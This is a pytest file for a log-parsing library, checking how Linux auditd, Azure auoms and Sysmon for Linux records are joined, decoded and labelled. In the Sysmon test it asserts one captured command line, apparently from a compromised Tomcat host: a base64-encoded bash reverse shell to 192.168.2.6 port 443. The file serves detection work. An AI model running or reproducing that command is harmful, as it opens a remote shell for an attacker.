# ruff: noqa: E501  (lines of logs as they are)
"""Audit records: joined into events, hexadecimal decoded, arguments put together, addresses read."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from source_samples import events, items, refusals, stamped, totals, written

from vizsla.sources._audit import joined
from vizsla.sources._audit_fields import address, arguments, execve_fields, fields, unhex
from vizsla.sources.auditd import whole

HEAD = "msg=audit(1604994496.155:%d):"


def line(kind: str, serial: int, body: str) -> str:
    return f"type={kind} {HEAD % serial} {body}\n"


def test_records_of_one_event_are_joined_whatever_stands_between(tmp_path: Path) -> None:
    text = (
        line(
            "SYSCALL",
            1,
            'arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 ppid=10 pid=11 auid=1000 uid=0 comm="cat" exe="/usr/bin/cat" key=(null)',
        )
        + line(
            "SYSCALL",
            2,
            'arch=c000003e syscall=42 success=no exit=-111 pid=12 uid=33 comm=636174206E exe="/usr/bin/curl" key=6100622D63',
        )
        + line("EXECVE", 1, 'argc=3 a0="cat" a1=2F746D702F6120622E747874 a2="abc"')
        + line("SOCKADDR", 2, "saddr=020001BBC0000207000000000000000000")
        + line("CWD", 1, 'cwd="/home/ada"')
        + line("PATH", 1, 'item=0 name="bin/x" inode=1 mode=0100755 nametype=NORMAL')
        + line("EOE", 1, "")
        + line("PROCTITLE", 2, "proctitle=6375726C0068747470733A2F2F78")
    )
    found = items(written(tmp_path, text.encode()))
    assert totals(found) == (2, 0)
    started, connected = sorted(stamped(found)["linux_audit"], key=lambda row: row["serial"])
    assert json.loads(started["argv"]) == ["cat", "/tmp/a b.txt", "abc"]
    assert (started["command_line"], started["a1"], started["syscall_a1"]) == (
        "cat /tmp/a b.txt abc",
        "/tmp/a b.txt",
        "56",
    )
    assert (started["action"], started["outcome"], started["syscall_name"]) == ("process-started", "success", "execve")
    assert (started["file_path"], started["records"], started["cwd"]) == ("/home/ada/bin/x", "5", "/home/ada")
    assert started["_time"].isoformat() == "2020-11-10T07:48:16.155000+00:00"
    assert started["_origin"].endswith("#0")
    assert (connected["action"], connected["outcome"], connected["comm"], connected["key"]) == (
        "connection",
        "failure",
        "cat n",
        "a b-c",
    )
    assert (connected["socket_ip"], connected["socket_port"], connected["socket_family"]) == (
        "192.0.2.7",
        "443",
        "inet",
    )
    assert connected["proctitle"] == "curl https://x"


def test_enriched_records_name_their_numbers(tmp_path: Path) -> None:
    body = 'arch=c00000b7 syscall=56 success=yes uid=1000 auid=1000\x1dARCH=aarch64 SYSCALL=openat AUID="ada" UID="ada"'
    path = 'item=1 name="/tmp/new" nametype=CREATE ouid=1000\x1dOUID="ada"'
    parent = 'item=0 name="/tmp/" nametype=PARENT'
    text = (
        "node=web1 "
        + line("SYSCALL", 7, body)
        + "node=web1 "
        + line("PATH", 7, parent)
        + "node=web1 "
        + line("PATH", 7, path)
    )
    (row,) = events(written(tmp_path, text.encode()))
    assert (row["uid_name"], row["auid_name"], row["syscall_name"], row["arch_name"]) == (
        "ada",
        "ada",
        "openat",
        "aarch64",
    )
    assert (row["action"], row["file_path"], row["_host"], row["node"]) == (
        "file-created",
        "/tmp/new",
        "web1",
        "web1",
    )
    assert [p["nametype"] for p in json.loads(row["paths"])] == ["PARENT", "CREATE"]


def test_what_programs_tell_the_audit_system(tmp_path: Path) -> None:
    text = (
        line(
            "USER_LOGIN",
            1,
            'pid=9 uid=0 auid=1000 ses=3 msg=\'op=login acct="ada" exe="/usr/sbin/sshd" hostname=192.0.2.7 addr=192.0.2.7 terminal=ssh res=failed\'',
        )
        + line(
            "USER_CMD",
            2,
            'pid=9 uid=1000 msg=\'cwd="/home/ada" cmd=6964202D61 exe="/usr/bin/sudo" terminal=pts/0 res=success\'\x1dUID="ada"',
        )
        + line(
            "ADD_USER", 3, 'pid=9 uid=0 auid=1000 msg=\'op=add-user acct="eve" exe="/usr/sbin/useradd" res=success\''
        )
    )
    login, command, added = events(written(tmp_path, text.encode()))
    assert (login["action"], login["outcome"], login["acct"], login["addr"]) == ("logon", "failure", "ada", "192.0.2.7")
    assert (command["action"], command["cmd"], command["uid_name"]) == ("privileged-command", "id -a", "ada")
    assert (added["action"], added["acct"]) == ("user-created", "eve")


def test_long_arguments_come_in_parts() -> None:
    first = execve_fields('argc=2 a0="sh" a1_len=8 a1[0]=6162')
    second = execve_fields("a1[1]=6364")
    assert arguments([first, second]) == ["sh", "abcd"]
    assert joined([("EXECVE", first), ("EXECVE", second)])["command_line"] == "sh abcd"


def test_addresses() -> None:
    assert address("0A0000160000000000000000000000000000000000000001" + "00000000") == {
        "socket_family": "inet6",
        "socket_port": "22",
        "socket_ip": "::1",
    }
    assert address("01002F72756E2F782E736F636B00") == {"socket_family": "unix", "socket_path": "/run/x.sock"}
    assert address("0100002F61") == {"socket_family": "unix", "socket_path": "@/a"}
    assert address("zz") == address("") == address("0") == {}
    assert address("0200") == {"socket_family": "inet"}


@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=20), min_size=1, max_size=8
    )
)
@settings(max_examples=200, deadline=None)
def test_arguments_come_back(words: list[str]) -> None:
    def put(word: str) -> str:
        plain = all("!" <= c <= "~" and c not in '"' for c in word)
        return f'"{word}"' if plain else word.encode().hex().upper()

    body = f"argc={len(words)} " + " ".join(f"a{n}={put(word)}" for n, word in enumerate(words))
    assert arguments([execve_fields(body)]) == words


@given(st.text(max_size=200))
@settings(max_examples=200, deadline=None)
def test_no_body_makes_it_stumble(body: str) -> None:
    for take in (fields, execve_fields):
        assert all(isinstance(v, str) for v in take(body).values())
    joined([("SYSCALL", fields(body)), ("EXECVE", execve_fields(body)), ("PATH", fields(body))])
    unhex(body)
    address(body)


def test_lines_that_are_none_are_told(tmp_path: Path) -> None:
    text = line("CWD", 1, 'cwd="/"') + "type=X\n\n" + line("EOE", 1, "") + line("CWD", 2, 'cwd="/"')
    found = items(written(tmp_path, text.encode()), "auditd")
    assert totals(found) == (2, 1)
    assert refusals(found) == ["no audit record: no type= and msg=audit(time:serial)"]


def test_a_growing_log_is_gone_on_with_before_what_may_still_be_joined() -> None:
    old = 'type=CWD msg=audit(100.000:1): cwd="/"\n'
    new = 'type=CWD msg=audit(200.000:2): cwd="/"\n'
    assert whole((old + new).encode()) == len(old)
    assert whole((old + new + "type=CWD msg=au").encode()) == len(old)
    assert whole(b"") == whole(b"x\n") == 0


def test_real_capture(real_data: Path) -> None:
    found = items(real_data / "linux" / "sh_arp_cache_2020-11-10074812.log")
    assert totals(found) == (2, 0)
    arp, grep = stamped(found)["linux_audit"]
    assert (arp["command_line"], grep["command_line"]) == ("arp -a", "grep -v ^?")
    assert (arp["records"], grep["records"], arp["serial"], grep["pid"]) == ("6", "6", "92733", "1632")


def _real(real_data: Path, kind: str) -> dict[str, list[dict[str, Any]]]:
    (path,) = (real_data / "linux").glob(f"syslog_{kind}_*.json")
    found = items(path)
    assert totals(found)[1] == 0
    return stamped(found)


def test_real_export_of_azures_agent(real_data: Path) -> None:
    rows = _real(real_data, "auoms")["linux_audit"]
    assert len(rows) == 50
    assert sum(row["outcome"] == "success" for row in rows) == 27
    assert all(
        row["_host"] == "ubuntu5" and row["action"] == "process-started" and row["TenantId"] == "redacted"
        for row in rows
    )
    first = min(rows, key=lambda row: row["serial"])
    assert (first["serial"], first["file_path"], first["user"], first["syslog_program"]) == (
        "84138",
        "/usr/local/sbin/bash",
        "tomcat",
        "auoms",
    )
    assert first["command_line"].startswith(
        "/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging.config.file="
    )


def test_real_sysmon_for_linux(real_data: Path) -> None:
    rows = _real(real_data, "sysmon")["linux_sysmon"]
    kinds = {kind: sum(row["EventID"] == kind for row in rows) for kind in ("1", "3", "5", "11", "23")}
    assert kinds == {"1": 31, "3": 6, "5": 50, "11": 4, "23": 2}
    shell = next(row for row in rows if row["EventID"] == "1" and row["EventRecordID"] == "245760")
    assert (shell["Image"], shell["User"], shell["ProcessId"], shell["ParentProcessId"]) == (
        "/bin/bash",
        "tomcat",
        "17790",
        "1340",
    )
    assert (
        shell["CommandLine"]
        == "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
    )
    cut = [row for row in rows if "Message" in row]  # one record was cut off on its way: its text is kept
    assert cut == [shell]
    assert shell["Message"].endswith(" -Dcatalina.base=/opt/tomcat -")
    assert shell["_time"].isoformat() == "2022-05-11T18:10:22.003485+00:00"
